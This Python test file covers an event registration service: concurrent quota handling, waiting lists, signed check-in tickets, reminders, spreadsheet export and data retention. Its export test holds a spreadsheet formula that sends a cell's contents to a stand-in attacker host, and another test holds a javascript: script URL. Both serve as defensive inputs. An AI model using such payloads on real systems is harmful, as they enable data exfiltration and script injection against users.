"""Events: quota under concurrency (naive path oversells, the atomic one never), waiting list, check-in, reminders."""

from __future__ import annotations

import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta

import pytest
import sqlalchemy as sa

from models import (
    AuditKind,
    AuditLog,
    Event,
    EventNotice,
    EventSession,
    Registration,
    RegistrationStatus,
    utcnow,
)
from server.extensions import db
from server.filters import LOCAL_TZ
from server.services import ServiceError, events, pii
from server.services.events import Applicant
from tests.conftest import SQLITE

VALID_ID = "11010519491231002X"  # the GB 11643 example number


def make_event(
    *,
    quota: int = 10,
    kind: str = "offline",
    companions: int = 2,
    fields: tuple[str, ...] = (),
    starts_in: timedelta = timedelta(days=3),
    hold_minutes: int = 60,
    opens_in: timedelta = timedelta(hours=-1),
    sessions: int = 1,
) -> tuple[Event, list[EventSession]]:
    now = utcnow()
    event = events.save_event(
        title="7·15 公众开放日",
        kind=kind,
        description="走进城管执法局",
        registration_opens_at=now + opens_in,
        registration_closes_at=now + starts_in - timedelta(hours=2),
        max_companions=companions,
        required_fields=fields,
        questions=["您最想了解哪项工作？"],
        hold_minutes=hold_minutes,
        published=True,
    )
    made = [
        events.save_session(
            event,
            starts_at=now + starts_in + timedelta(hours=i),
            ends_at=now + starts_in + timedelta(hours=i + 2),
            quota=quota,
            venue="市民中心" if kind == "offline" else "",
            stream_url="" if kind == "offline" else "https://live.example.cn/1",
        )
        for i in range(sessions)
    ]
    return event, made


def counts(session_id: int) -> dict[str, int]:
    rows = db.session.execute(
        sa.select(Registration.status, sa.func.count(), sa.func.sum(1 + Registration.companions))
        .where(Registration.session_id == session_id)
        .group_by(Registration.status)
    )
    out = {status.value: n for status, n, _ in rows}
    out["people_confirmed"] = (
        db.session.scalar(
            sa.select(sa.func.sum(1 + Registration.companions)).where(
                Registration.session_id == session_id,
                Registration.status.in_([RegistrationStatus.CONFIRMED, RegistrationStatus.OFFERED]),
            )
        )
        or 0
    )
    return out


def surge(app, event_id: int, session_id: int, people: int, *, during=None) -> list[str]:
    """`people` distinct citizens register at once from threads, each with its own connection and session."""
    barrier = threading.Barrier(min(people, 24))
    outcomes: list[str] = []

    def one(i: int) -> str:
        with app.app_context():
            try:
                barrier.wait(timeout=10)
            except threading.BrokenBarrierError:
                pass
            try:
                reg, _ = events.register(f"oSurge{i:05d}", event_id, session_id, Applicant())
                return reg.status.value
            except Exception as exc:  # noqa: BLE001
                return f"error: {exc!r}"
            finally:
                db.session.remove()

    with ThreadPoolExecutor(max_workers=24) as pool:
        futures = [pool.submit(one, i) for i in range(people)]
        if during:
            during()
        outcomes = [f.result() for f in futures]
    return outcomes


# -- quota correctness under load: first the naive path must be seen to oversell -------------------------------------


@pytest.mark.skipif(SQLITE, reason="needs concurrent connections")
def test_naive_read_check_insert_oversells_under_load(app, committed_db, monkeypatch):
    monkeypatch.setitem(app.config, "EVENTS_NAIVE_QUOTA", True)
    oversold = 0
    for _ in range(5):  # a race: give it a few chances; it reliably shows up in the first one or two
        event, (session,) = make_event(quota=10)
        outcomes = surge(app, event.id, session.id, 120)
        assert not [o for o in outcomes if o.startswith("error")]
        oversold = outcomes.count("confirmed") - 10
        if oversold > 0:
            break
    assert oversold > 0, "the naive path should oversell under concurrency (else the race test proves nothing)"


@pytest.mark.skipif(SQLITE, reason="needs concurrent connections")
def test_atomic_quota_never_oversells_under_load(app, committed_db):
    event, (session,) = make_event(quota=10)
    outcomes = surge(app, event.id, session.id, 120)
    assert not [o for o in outcomes if o.startswith("error")]
    assert outcomes.count("confirmed") == 10
    assert outcomes.count("waiting") == 110
    db.session.expire_all()
    assert db.session.get(EventSession, session.id).taken == 10
    assert counts(session.id)["confirmed"] == 10


@pytest.mark.skipif(SQLITE, reason="needs concurrent connections")
def test_redis_flushed_again_and_again_mid_surge_loses_and_oversells_nothing(app, committed_db, redis_client):
    event, (session,) = make_event(quota=25)
    stop = threading.Event()

    def flusher() -> None:
        while not stop.is_set():
            redis_client.flushdb()
            stop.wait(0.002)

    thread = threading.Thread(target=flusher)
    thread.start()
    try:
        outcomes = surge(app, event.id, session.id, 150)
    finally:
        stop.set()
        thread.join()
    assert not [o for o in outcomes if o.startswith("error")]
    assert outcomes.count("confirmed") == 25
    assert outcomes.count("waiting") == 125
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Registration)) == 150


@pytest.mark.skipif(SQLITE, reason="needs concurrent connections")
def test_redis_down_postgresql_alone_still_decides(app, committed_db, monkeypatch):
    import redis

    def down(*args, **kwargs):
        raise redis.ConnectionError("down")

    monkeypatch.setattr(app.extensions["redis"], "eval", down)
    event, (session,) = make_event(quota=7)
    outcomes = surge(app, event.id, session.id, 40)
    assert outcomes.count("confirmed") == 7 and outcomes.count("waiting") == 33


@pytest.mark.skipif(SQLITE, reason="needs concurrent connections")
def test_a_double_tap_from_many_threads_is_one_registration(app, committed_db):
    event, (session,) = make_event(quota=5)
    barrier = threading.Barrier(10)

    def tap(_: int) -> int:
        with app.app_context():
            barrier.wait(timeout=10)
            try:
                return events.register("oTapper", event.id, session.id, Applicant())[0].id
            finally:
                db.session.remove()

    with ThreadPoolExecutor(10) as pool:
        ids = set(pool.map(tap, range(10)))
    assert len(ids) == 1
    db.session.expire_all()
    assert db.session.get(EventSession, session.id).taken == 1
    assert events.places_left(db.session.get(Event, event.id)) == {session.id: 4}


@pytest.mark.skipif(SQLITE, reason="autocommit is a PostgreSQL path")
def test_a_place_taken_while_the_other_taps_held_the_counter_at_zero_is_charged_to_it(db_session):
    # The race the test above runs into now and then: the other taps of a double tap each hold a place on the Redis
    # counter until their insert fails and they give it back; the one that got through past a zero counter took its
    # place in PostgreSQL alone.
    event, (session,) = make_event(quota=5)
    for _ in range(5):
        assert events._redis_take(session.id, 1) is True
    reg, created = events.register("oTapper", event.id, session.id, Applicant())
    assert created and reg.status == RegistrationStatus.CONFIRMED
    for _ in range(5):
        events._redis_adjust(session.id, 1)
    assert events.places_left(event) == {session.id: 4}


def test_a_counter_that_let_through_a_place_the_database_did_not_have_is_rebuilt(db_session):
    event, (session,) = make_event(quota=1)
    events.register("o-first", event.id, session.id, Applicant())
    events._redis_adjust(session.id, 3)  # drifted high: 3 left where the database has none
    reg, _ = events.register("o-second", event.id, session.id, Applicant())
    assert reg.status == RegistrationStatus.WAITING
    assert events.places_left(event) == {session.id: 0}  # rebuilt from the database, not left showing places


def test_a_session_begun_says_whether_another_is_still_open(db_session):
    event, sessions = make_event(sessions=2)
    sessions[0].starts_at = utcnow() - timedelta(minutes=5)
    db.session.commit()
    with pytest.raises(ServiceError, match="请选择其他场次"):
        events.register("o-late", event.id, sessions[0].id, Applicant())
    sessions[1].starts_at = utcnow() - timedelta(minutes=1)
    db.session.commit()
    with pytest.raises(ServiceError, match="^该场次已开始，报名已截止$"):
        events.register("o-late", event.id, sessions[0].id, Applicant())


def test_a_registration_commits_alone_and_leaves_pooled_connections_transactional(app, committed_db):
    """register() runs in autocommit (no BEGIN/COMMIT round trips); the connection must not go back to the pool like
    that, or a later request's rollback would undo nothing."""
    event, (session,) = make_event(quota=1)
    at_checkout: list[bool] = []

    def checkout(dbapi_connection, record, proxy):  # noqa: ARG001
        at_checkout.append(dbapi_connection.autocommit)

    sa.event.listen(db.engine, "checkout", checkout)
    try:
        with app.app_context():
            reg, _ = events.register("oFirst", event.id, session.id, Applicant(name="张三"))
            db.session.remove()
        for _ in range(12):  # more than the pool holds: every pooled connection is checked out again
            with app.app_context():
                db.session.execute(sa.update(EventSession).values(quota=99))
                db.session.rollback()
                db.session.remove()
    finally:
        sa.event.remove(db.engine, "checkout", checkout)
    assert at_checkout and not any(at_checkout)
    db.session.expire_all()
    assert db.session.get(EventSession, session.id).quota == 1  # every rollback undid its update
    assert db.session.get(EventSession, session.id).taken == 1
    assert db.session.get(Registration, reg.id).status is RegistrationStatus.CONFIRMED


# -- the rules, one transaction per test -----------------------------------------------------------------------------


def test_a_stream_link_is_a_web_address_even_on_an_offline_event(db_session):
    event, (session,) = make_event()
    same = {"starts_at": session.starts_at, "ends_at": session.ends_at, "quota": 5, "venue": "市民中心"}
    with pytest.raises(ServiceError, match="http"):  # the event could be made a livestream afterwards
        events.save_session(event, **same, stream_url="javascript:alert(1)", session=session)
    events.save_session(event, **same, stream_url="https://live.example.cn/2", session=session)
    assert session.stream_url == "https://live.example.cn/2"


def test_companions_count_against_the_quota_and_a_full_session_offers_the_waiting_list(db_session):
    event, (session,) = make_event(quota=4, companions=2)
    a, created = events.register("oA", event.id, session.id, Applicant(companions=2))
    assert created and a.status is RegistrationStatus.CONFIRMED
    b, _ = events.register("oB", event.id, session.id, Applicant(companions=2))
    assert b.status is RegistrationStatus.WAITING  # 3 + 3 > 4
    c, _ = events.register("oC", event.id, session.id, Applicant())
    assert c.status is RegistrationStatus.CONFIRMED  # one place was left
    with pytest.raises(ServiceError, match="名额已满"):
        events.register("oD", event.id, session.id, Applicant(), waitlist=False)
    with pytest.raises(ServiceError, match="同行"):
        events.register("oE", event.id, session.id, Applicant(companions=3))
    assert events.places_left(event) == {session.id: 0}
    assert events.waiting_position(b) == 1


def test_a_party_bigger_than_the_session_is_refused_not_put_on_a_waiting_list_it_can_never_leave(db_session):
    event, (session,) = make_event(quota=2, companions=2)
    with pytest.raises(ServiceError, match="共 2 个名额，3 人"):
        events.register("oA", event.id, session.id, Applicant(companions=2))
    assert counts(session.id) == {"people_confirmed": 0} and events.places_left(event) == {session.id: 2}


def test_snapshot_visitors_and_closed_windows_are_refused(db_session):
    event, (session,) = make_event(opens_in=timedelta(hours=1))
    with pytest.raises(ServiceError, match="朋友圈"):
        events.register("oSnap", event.id, session.id, snapshot=True)
    with pytest.raises(ServiceError, match="尚未开始"):
        events.register("oEarly", event.id, session.id)


def test_required_fields_are_validated_and_encrypted_at_rest(db_session):
    event, (session,) = make_event(fields=("name", "phone", "id_number"))
    with pytest.raises(ServiceError, match="身份证"):
        events.register(
            "oX", event.id, session.id, Applicant(name="张三", phone="13800000000", id_number="110105194912310021")
        )
    with pytest.raises(ServiceError, match="手机号"):
        events.register("oX", event.id, session.id, Applicant(name="张三", phone="1380000", id_number=VALID_ID))
    reg, _ = events.register(
        "oX", event.id, session.id, Applicant(name="张三", phone="13800000000", id_number=VALID_ID.lower())
    )
    raw = db.session.execute(sa.text("SELECT phone_enc, id_number_enc FROM registration WHERE id = :i"), {"i": reg.id})
    phone_enc, id_enc = raw.one()
    assert "13800000000" not in phone_enc and VALID_ID not in id_enc
    assert pii.decrypt(id_enc) == VALID_ID
    (row,) = events.session_rows(session.id).items
    assert (row.name, row.phone, row.id_number) == ("张*", "138****0000", "110***********002X")


@pytest.mark.parametrize(
    "number,ok",
    [(VALID_ID, True), ("110105194912310021", False), ("11010519491331002X", False), ("1101051949123100", False)],
)
def test_id_number_checksum(number, ok):
    assert events.valid_id_number(number) is ok


def test_cancel_offers_the_place_to_the_first_waiting_who_is_notified_and_confirms_once(db_session, emulator):
    emulator.hook("users", {"users": [{"openid": o} for o in ("oA", "oB", "oC")]})
    event, (session,) = make_event(quota=1)
    a, _ = events.register("oA", event.id, session.id)
    b, _ = events.register("oB", event.id, session.id)
    c, _ = events.register("oC", event.id, session.id)
    assert (b.status, c.status) == (RegistrationStatus.WAITING, RegistrationStatus.WAITING)
    events.cancel("oA", a.id)
    db.session.expire_all()
    b, c = db.session.get(Registration, b.id), db.session.get(Registration, c.id)
    assert b.status is RegistrationStatus.OFFERED and b.hold_expires_at is not None
    assert c.status is RegistrationStatus.WAITING
    assert db.session.get(EventSession, session.id).taken == 1  # the place is held for B
    sent = emulator.state()["templates_sent"]
    assert [m["touser"] for m in sent] == ["oB"]
    assert "候补" in sent[0]["data"]["thing4"]["value"]
    assert events.confirm_offer("oB", b.id).status is RegistrationStatus.CONFIRMED
    assert events.confirm_offer("oB", b.id).status is RegistrationStatus.CONFIRMED  # a double tap is harmless
    with pytest.raises(ServiceError):
        events.cancel("oA", a.id)  # cancelled once


def test_an_unconfirmed_hold_expires_and_the_place_moves_on(db_session, emulator):
    emulator.hook("users", {"users": [{"openid": o} for o in ("oA", "oB", "oC")]})
    event, (session,) = make_event(quota=1, hold_minutes=30)
    a, _ = events.register("oA", event.id, session.id)
    b, _ = events.register("oB", event.id, session.id)
    c, _ = events.register("oC", event.id, session.id)
    events.cancel("oA", a.id)
    assert events.expire_holds(utcnow() + timedelta(minutes=10)) == 0  # not yet
    assert events.expire_holds(utcnow() + timedelta(minutes=31)) == 1
    db.session.expire_all()
    assert db.session.get(Registration, b.id).status is RegistrationStatus.EXPIRED
    assert db.session.get(Registration, c.id).status is RegistrationStatus.OFFERED
    with pytest.raises(ServiceError, match="过期"):
        events.confirm_offer("oB", b.id)
    events.cancel("oC", c.id)  # nobody waits: the place goes back to the quota
    assert db.session.get(EventSession, session.id).taken == 0
    assert events.places_left(event) == {session.id: 1}


def test_raising_the_quota_serves_the_waiting_list_first(db_session, emulator):
    event, (session,) = make_event(quota=1)
    events.register("oA", event.id, session.id)
    b, _ = events.register("oB", event.id, session.id)
    events.save_session(
        event, starts_at=session.starts_at, ends_at=session.ends_at, quota=2, venue="市民中心", session=session
    )
    db.session.expire_all()
    assert db.session.get(Registration, b.id).status is RegistrationStatus.OFFERED
    with pytest.raises(ServiceError, match="不能少于"):
        events.save_session(
            event, starts_at=session.starts_at, ends_at=session.ends_at, quota=1, venue="市民中心", session=session
        )


# -- check-in --------------------------------------------------------------------------------------------------------


def test_a_session_with_registrants_cannot_be_moved_into_the_past(db_session):
    event, (session,) = make_event(quota=5)
    events.register("o-early", event.id, session.id, Applicant())
    past = utcnow() - timedelta(minutes=30)
    # Before: saved and said its registrants would be told, but no change notice goes for a session under way.
    with pytest.raises(ServiceError, match="不能改到已经过去的时间"):
        events.save_session(
            event, starts_at=past, ends_at=past + timedelta(hours=2), quota=5, venue="市民中心", session=session
        )
    db.session.expire_all()
    assert db.session.get(EventSession, session.id).starts_at > utcnow()
    # Other changes to it still save; a session nobody registered for may take any time.
    later = session.starts_at + timedelta(hours=1)
    events.save_session(
        event, starts_at=later, ends_at=later + timedelta(hours=2), quota=6, venue="市民中心", session=session
    )
    # A session stored with seconds, begun: the form sends its time in minutes, and a quota change still saves.
    stored, minutes = past.replace(second=17, microsecond=0), past.replace(second=0, microsecond=0)
    db.session.get(EventSession, session.id).starts_at = stored
    db.session.commit()
    saved = events.save_session(
        event, starts_at=minutes, ends_at=later + timedelta(hours=2), quota=7, venue="市民中心", session=session
    )
    assert saved.quota == 7 and saved.starts_at == stored
    _, (empty,) = make_event(quota=5)
    events.save_session(
        empty.event, starts_at=past, ends_at=past + timedelta(hours=2), quota=5, venue="市民中心", session=empty
    )


def test_checkin_token_is_signed_bound_and_verifiable_offline(db_session):
    from cryptography.hazmat.primitives.serialization import load_pem_public_key

    event, (session,) = make_event()
    reg, _ = events.register("oA", event.id, session.id)
    token = events.checkin_token(reg)
    public = load_pem_public_key(events.public_key_pem().encode())
    claims = events.verify_token(token, public)
    assert (claims.registration_id, claims.session_id, claims.ticket) == (reg.id, session.id, reg.ticket)
    prefix, body, sig = token.split(".")
    forged = events._b64(f"{reg.id}:{session.id + 1}:{reg.ticket}".encode())
    assert events.verify_token(f"{prefix}.{forged}.{sig}", public) is None
    assert events.verify_token("garbage") is None


def test_scan_valid_then_retry_same_nonce_then_reuse(db_session):
    event, (session,) = make_event()
    other, (other_session,) = make_event()
    reg, _ = events.register("oA", event.id, session.id)
    token = events.checkin_token(reg)
    first = events.check_in(event.id, token, "nonce-1", staff_id=None)
    assert first.status == "valid" and "不是今天" in first.message  # the session is in three days: staff are told
    on_the_day = events.check_in(event.id, token, "nonce-1", staff_id=None, now=session.starts_at)
    assert "不是今天" not in on_the_day.message
    retry = events.check_in(event.id, token, "nonce-1", staff_id=None)
    assert retry.status == "valid" and retry.at == first.at  # a network retry is not a reuse
    again = events.check_in(event.id, token, "nonce-2", staff_id=None)
    assert again.status == "used" and again.at == first.at
    assert events.check_in(other.id, token, "n3", staff_id=None).status == "invalid"
    assert events.check_in(event.id, token[:-3] + "AAA", "n4", staff_id=None).status == "invalid"
    b, _ = events.register("oB", event.id, session.id)
    events.cancel("oB", b.id)
    assert events.check_in(event.id, events.checkin_token(b), "n5", staff_id=None).status == "invalid"


def test_scan_for_one_session_refuses_a_ticket_of_another_session(db_session):
    event, (first, second) = make_event(sessions=2)
    reg, _ = events.register("oA", event.id, second.id)
    token = events.checkin_token(reg)
    wrong = events.check_in(event.id, token, "n1", staff_id=None, session_id=first.id)
    when = events.local_dt(second.starts_at, "%m-%d %H:%M")
    assert (wrong.status, wrong.message) == ("invalid", f"不是本场次的二维码（该票为 {when} 场）")
    assert wrong.as_json()["session"] == when
    assert db.session.get(Registration, reg.id).checked_in_at is None
    assert events.check_in(event.id, token, "n2", staff_id=None, session_id=second.id).status == "valid"
    assert events.check_in(event.id, token, "n3", staff_id=None).status == "used"  # all sessions: the same ticket


def test_walk_in_takes_a_place_or_raises_the_quota_when_asked(db_session):
    event, (session,) = make_event(quota=1)
    events.register("oA", event.id, session.id)
    with pytest.raises(ServiceError, match="已满"):
        events.walk_in(event, session.id, Applicant(name="李四"))
    reg = events.walk_in(event, session.id, Applicant(name="李四", companions=1), over_quota=True)
    assert reg.walk_in and reg.checked_in_at is not None
    db.session.expire_all()
    s = db.session.get(EventSession, session.id)
    assert (s.quota, s.taken) == (3, 3)


# -- reminders -------------------------------------------------------------------------------------------------------


@pytest.mark.skipif(SQLITE, reason="needs concurrent connections")
def test_reminders_go_once_even_with_several_workers(app, committed_db, emulator):
    emulator.hook("users", {"users": [{"openid": f"oR{i}"} for i in range(6)]})
    event, (session,) = make_event(quota=10, starts_in=timedelta(hours=20))
    for i in range(6):
        events.register(f"oR{i}", event.id, session.id)

    def worker(_: int) -> int:
        with app.app_context():
            try:
                return events.send_due_reminders()
            finally:
                db.session.remove()

    with ThreadPoolExecutor(4) as pool:
        sent = sum(pool.map(worker, range(4)))
    assert sent == 6
    messages = emulator.state()["templates_sent"]
    assert sorted(m["touser"] for m in messages) == [f"oR{i}" for i in range(6)]
    start = session.starts_at.astimezone(LOCAL_TZ)
    day = (
        "活动明天举行，请准时参加"
        if start.date() > datetime.now(LOCAL_TZ).date()
        else f"活动今天 {start:%H:%M} 开始，请准时参加"
    )
    assert {m["data"]["thing4"]["value"] for m in messages} == {day}
    assert events.send_due_reminders() == 0
    # An hour before, the second reminder goes, once.
    assert events.send_due_reminders(session.starts_at - timedelta(minutes=50)) == 6
    assert events.send_due_reminders(session.starts_at - timedelta(minutes=40)) == 0


def test_an_hour_before_reminder_names_the_time_when_less_than_an_hour_is_left(db_session, emulator):
    """The drill's session was set up 20 minutes ahead: its reminder must not say 「一小时后开始」."""
    emulator.hook("users", {"users": [{"openid": "oSoon"}]})
    event, (session,) = make_event(quota=5)
    events.register("oSoon", event.id, session.id)
    assert events.send_due_reminders(session.starts_at - timedelta(minutes=20)) == 1
    (message,) = emulator.state()["templates_sent"]
    start = session.starts_at.astimezone(LOCAL_TZ)
    assert message["data"]["thing4"]["value"] == f"活动将于 {start:%H:%M} 开始，请准时参加"


def test_livestream_reminder_at_start(db_session, emulator):
    emulator.hook("users", {"users": [{"openid": "oL"}]})
    event, (session,) = make_event(kind="livestream", quota=1000, starts_in=timedelta(hours=5))
    events.register("oL", event.id, session.id)
    assert events.send_due_reminders() == 0  # no day-before reminder for a livestream
    assert events.send_due_reminders(session.starts_at + timedelta(minutes=1)) == 1
    (message,) = emulator.state()["templates_sent"]
    assert message["url"] == "https://live.example.cn/1"
    assert db.session.scalar(sa.select(sa.func.count()).select_from(EventNotice)) == 1


def test_reminders_from_beat_link_to_my_registrations_under_the_public_address(app, db_session, emulator, monkeypatch):
    emulator.hook("users", {"users": [{"openid": "oP"}, {"openid": "oQ"}]})
    event, (session,) = make_event(quota=10, starts_in=timedelta(hours=20))
    events.register("oP", event.id, session.id)
    assert events.send_due_reminders() == 1  # no request and no PUBLIC_BASE_URL: no address to link to
    monkeypatch.setitem(app.config, "PUBLIC_BASE_URL", "https://wx.example.gov.cn/")
    events.register("oQ", event.id, session.id)
    assert events.send_due_reminders() == 1
    urls = {m["touser"]: m["url"] for m in emulator.state()["templates_sent"]}
    assert urls == {"oP": None, "oQ": "https://wx.example.gov.cn/m/events/mine"}


# -- export, retention, numbers --------------------------------------------------------------------------------------


def test_export_is_an_excel_with_checkin_status_and_is_audited(db_session):
    import io

    from openpyxl import load_workbook

    event, (session,) = make_event(fields=("name", "phone"))
    reg, _ = events.register("oA", event.id, session.id, Applicant(name="王五", phone="13912345678"))
    events.register("oB", event.id, session.id, Applicant(name="赵六", phone="13712345678"))
    events.check_in(event.id, events.checkin_token(reg), "n", staff_id=None)
    name, data = events.export_session(session.id)
    assert name.endswith(".xlsx")
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert rows[0][:7] == ("序号", "姓名", "手机号", "身份证号", "同行人数", "状态", "签到时间")
    assert rows[1][1:3] == ("王五", "13912345678") and rows[1][6] != "未签到"
    assert rows[2][6] == "未签到"
    entry = db.session.scalar(sa.select(AuditLog).where(AuditLog.action == "event.export"))
    assert entry.kind is AuditKind.EXPORT


def test_export_keeps_what_citizens_typed_as_text_not_formulas(db_session):
    import io

    from openpyxl import load_workbook

    event, (session,) = make_event(fields=("name", "phone"))
    link = '=HYPERLINK("http://evil.example/?x="&C2,"点击")'
    events.register("oA", event.id, session.id, Applicant(name="=1+1", phone="13912345678", answers=[link]))
    _, data = events.export_session(session.id)
    sheet = load_workbook(io.BytesIO(data)).active
    assert "f" not in {c.data_type for c in sheet[2]}  # no formula anywhere in the row
    assert (sheet["B2"].value, sheet["J2"].value) == ("'=1+1", "'" + link)


def test_personal_data_is_erased_after_the_retention_period(db_session):
    event, (session,) = make_event(fields=("name", "phone"))
    reg, _ = events.register("oA", event.id, session.id, Applicant(name="王五", phone="13912345678"))
    assert events.anonymise_due() == 0
    assert events.anonymise_due(session.ends_at + timedelta(days=31)) == 1
    db.session.expire_all()
    reg = db.session.get(Registration, reg.id)
    assert (reg.name_enc, reg.phone_enc, reg.openid) == (None, None, None)
    assert reg.status is RegistrationStatus.CONFIRMED  # the numbers stay
    assert events.anonymise_due(session.ends_at + timedelta(days=40)) == 0


def test_year_numbers_for_the_dashboard(db_session):
    event, (session,) = make_event(quota=10)
    live, (live_session,) = make_event(kind="livestream", quota=100)
    a, _ = events.register("oA", event.id, session.id, Applicant(companions=1))
    events.register("oB", event.id, session.id)
    events.register("oL1", live.id, live_session.id)
    events.register("oL2", live.id, live_session.id)
    events.check_in(event.id, events.checkin_token(a), "n", staff_id=None)
    from server.filters import LOCAL_TZ

    year = session.starts_at.astimezone(LOCAL_TZ).year
    later = session.ends_at + timedelta(hours=1)
    numbers = events.year_numbers(year, now=later)
    by_id = {e["id"]: e for e in numbers["per_event"]}
    assert by_id[event.id] | {} == by_id[event.id]
    assert (by_id[event.id]["registrations"], by_id[event.id]["checkins"], by_id[event.id]["no_shows"]) == (2, 1, 1)
    assert by_id[live.id]["reservations"] == 2
    assert numbers["livestreams"] >= 1 and numbers["events"] >= 2
